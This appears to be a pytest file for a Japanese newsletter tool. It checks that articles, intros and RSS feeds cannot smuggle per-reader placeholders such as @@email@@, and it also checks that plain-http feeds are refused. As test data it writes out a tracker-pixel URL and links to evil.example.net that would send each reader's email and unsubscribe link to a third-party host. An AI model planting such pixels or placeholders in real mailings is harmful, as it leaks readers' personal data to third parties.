"""Per-reader values are filled only in the slots the templates define (issue 14 item 2):
an article or a feed that carries ``@@email@@`` would send every reader's address and
unsubscribe link to a third-party host. Feeds are fetched over https only."""

from __future__ import annotations

import dataclasses
import datetime as dt
import functools
import http.server
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from compose_samples import replace_field, write_article
from conftest import Runner
from digest_mail.config import find_workspace
from digest_mail.content.articles import load_article
from digest_mail.content.edition import build_edition
from digest_mail.errors import InputError
from digest_mail.render.renderer import render_edition

PIXEL = "https://tracker.example.net/pixel.gif?e=@@email@@&u=@@unsubscribe_url@@"
HINT = (
    "Hint: per-reader values such as @@email@@ are filled only where the templates put them;"
    " remove it from the article\n"
)


def test_the_tracker_pixel_of_the_issue_is_refused_with_file_and_field(
    workspace: Path, run: Runner
) -> None:
    path = write_article(workspace / "articles", "pixel")
    replace_field(path, "category:", f'category: 国際\nimage: "{PIXEL}"\nimage_alt: 写真')
    result = run("compose", "articles/pixel.md", "--edition", "px1")
    assert (result.exit_code, result.output) == (
        1,
        f"Error: articles/pixel.md:7: image: {PIXEL!r} contains @@email@@, the syntax of a"
        " per-reader value\n" + HINT,
    )
    assert not (workspace / "drafts" / "px1").exists()


@pytest.mark.parametrize(
    ("line_start", "new_line", "where"),
    [
        ("title:", "title: 読者 @@name@@ さんへ", "2: title"),
        ("lead:", "lead: 連絡先 @@email@@", "5: lead"),
        ("category:", "category: '@@unsubscribe_url@@'", "6: category"),
        ("  - トランプ氏の再選", "  - 解除は @@unsubscribe_url@@ から", "7: points[0]"),
        ("  - title: 米国", "  - title: 出典 @@email@@", "11: sources[0].title"),
        (
            "    url: https://mainichi",
            "    url: https://news.example.net/a?r=@@email@@",
            "11: sources[0].url",
        ),
        ("url: https://chrysanthemum", "url: https://evil.example.net/@@email@@", "3: url"),
        ("published:", "published: 2026-11-20\nimage_alt: '@@name@@'", "5: image_alt"),
        ("北朝鮮問題における", "画像: ![x](https://evil.example.net/p.gif?@@email@@)", "19"),
        ("北朝鮮問題における", "未来の置き換え @@future_value@@ も", "19"),
    ],
)
def test_every_article_field_refuses_placeholder_syntax(
    tmp_path: Path, line_start: str, new_line: str, where: str
) -> None:
    path = write_article(tmp_path, "a")
    replace_field(path, line_start, new_line)
    with pytest.raises(InputError) as info:
        load_article(path)
    assert str(info.value).startswith(f"{path}:{where}: ")
    assert "the syntax of a per-reader value" in str(info.value)


def test_text_that_is_not_a_placeholder_stays_allowed(tmp_path: Path) -> None:
    path = write_article(tmp_path, "a")
    replace_field(path, "lead:", "lead: 差分 @@ -1,3 +1,4 @@ と連絡先 info@example.jp、@@ だけ")
    assert load_article(path).lead == "差分 @@ -1,3 +1,4 @@ と連絡先 info@example.jp、@@ だけ"


def test_the_render_refuses_a_slot_no_template_wrote(workspace: Path) -> None:
    """Past the loader (an Article built in code, a template that glues two values): the
    rendered parts may hold only the slots the templates wrote."""
    ws = find_workspace(workspace)
    article = load_article(write_article(workspace / "articles", "glued"))
    for changes, part in (
        ({"image": PIXEL, "image_alt": "写真"}, "HTML"),
        ({"lead": "@@email@@"}, "HTML"),
    ):
        edition = build_edition(
            [dataclasses.replace(article, **changes)],
            settings=ws.settings,
            today=dt.date(2026, 11, 23),
            edition_id="px2",
        )
        with pytest.raises(InputError) as info:
            render_edition(edition, settings=ws.settings, templates_dir=ws.templates_dir)
        assert str(info.value) == (
            f"the {part} part holds @@email@@ that no template wrote: text or links of the"
            " edition make a per-reader value (in articles/glued.md)"
        )
    # Two values, each harmless, that meet in a template.
    override = ws.templates_dir / "digest.txt.j2"
    override.parent.mkdir(parents=True, exist_ok=True)
    override.write_text(
        "{{ placeholders.name }}\n{% for a in articles %}{{ a.title }}{{ a.lead }}\n{% endfor %}"
        "{{ placeholders.unsubscribe_url }}\n",
        encoding="utf-8",
    )
    edition = build_edition(
        [dataclasses.replace(article, title="見出し@@", lead="email@@ です")],
        settings=ws.settings,
        today=dt.date(2026, 11, 23),
        edition_id="px3",
    )
    with pytest.raises(InputError) as info:
        render_edition(edition, settings=ws.settings, templates_dir=ws.templates_dir)
    assert str(info.value).startswith("the text part holds @@email@@ that no template wrote")


def test_the_intro_cannot_make_a_slot_either(workspace: Path, run: Runner) -> None:
    write_article(workspace / "articles", "plain")
    result = run("compose", "articles/plain.md", "--intro", "宛先: @@email@@ です")
    assert (result.exit_code, result.output) == (
        1,
        "Error: the HTML part holds @@email@@ that no template wrote: text or links of the"
        " edition make a per-reader value (in the intro)\n"
        "Hint: remove '@@' from it; per-reader values are filled only where the templates put"
        " them\n",
    )


def test_the_templates_own_slots_are_rendered(workspace: Path) -> None:
    ws = find_workspace(workspace)
    article = load_article(write_article(workspace / "articles", "plain"))
    edition = build_edition(
        [article], settings=ws.settings, today=dt.date(2026, 11, 23), edition_id="px4"
    )
    rendered = render_edition(edition, settings=ws.settings, templates_dir=ws.templates_dir)
    for token in ("@@greeting@@", "@@email@@", "@@unsubscribe_url@@"):
        assert token in rendered.html and token in rendered.text


FEED = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Chrysanthemum Digest</title>
<link>https://chrysanthemum-digest.example.jp/</link><description>今週</description>
<item><title>円安はどこまで続く?</title>
<link>https://chrysanthemum-digest.example.jp/articles/weak-yen/</link>
<pubDate>Sat, 21 Nov 2026 07:15:00 +0900</pubDate>
<enclosure url="{pixel}" length="43" type="image/gif"/>
<description>円安の長期化で、家計はどう備えるべきか。</description></item>
<item><title>地方鉄道の未来</title>
<link>https://chrysanthemum-digest.example.jp/articles/local-railway/</link>
<pubDate>Fri, 20 Nov 2026 18:00:00 +0900</pubDate>
<description>赤字路線の存続をめぐる議論が続いている。</description></item>
</channel></rss>
"""


def test_a_feed_enclosure_with_placeholders_is_an_invalid_entry(
    workspace: Path, run: Runner
) -> None:
    feed = workspace / "feed.xml"
    feed.write_text(FEED.format(pixel=PIXEL.replace("&", "&amp;")), encoding="utf-8")
    before = sorted(p.name for p in (workspace / "articles").glob("*.md"))
    for extra in (("--dry-run",), ()):
        result = run("articles", "import", "feed.xml", *extra)
        assert result.exit_code == 0, result.output
        lines = result.output.splitlines()
        assert lines[1] == (
            f"invalid: entry 1 (円安はどこまで続く?): image: {PIXEL!r} contains @@email@@,"
            " the syntax of a per-reader value (delivery would fill in each reader's own)"
        )
        assert lines[2] == "1 new, 0 skipped, 1 invalid"
    after = sorted(p.name for p in (workspace / "articles").glob("*.md"))
    assert sorted(set(after) - set(before)) == ["2026-11-20-local-railway.md"]


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def plain_http_feed(workspace: Path) -> Iterator[str]:
    (workspace / "feed.xml").write_text(FEED.format(pixel="https://a.example/x.gif"), "utf-8")
    handler = functools.partial(_Quiet, directory=str(workspace))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/feed.xml"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def test_a_plain_http_feed_is_refused_unless_allowed_loudly(
    workspace: Path, run: Runner, plain_http_feed: str
) -> None:
    refused = run("articles", "import", plain_http_feed)
    assert (refused.exit_code, refused.output) == (
        1,
        f"Error: {plain_http_feed}: a feed is fetched over https only\n"
        "Hint: use the feed's https:// address; --allow-http fetches over plain http (anyone"
        " on the network path can then change its articles and links)\n",
    )
    allowed = run("articles", "import", plain_http_feed, "--allow-http", "--dry-run")
    assert allowed.exit_code == 0, allowed.output
    assert allowed.stderr.startswith("WARNING: fetching the feed over plain http")
    assert allowed.stdout.splitlines()[-1] == "2 new, 0 skipped, 0 invalid"


def test_an_oversized_local_feed_file_is_refused(
    workspace: Path, run: Runner, monkeypatch: pytest.MonkeyPatch
) -> None:
    import digest_mail.content.feed

    monkeypatch.setattr(digest_mail.content.feed, "MAX_FEED_BYTES", 1000)
    feed = workspace / "big.xml"
    feed.write_text(FEED.format(pixel="https://a.example/x.gif") + " " * 1000, "utf-8")
    result = run("articles", "import", "big.xml")
    assert (result.exit_code, result.output) == (
        1,
        "Error: big.xml: the feed is larger than 1000 bytes\n",
    )
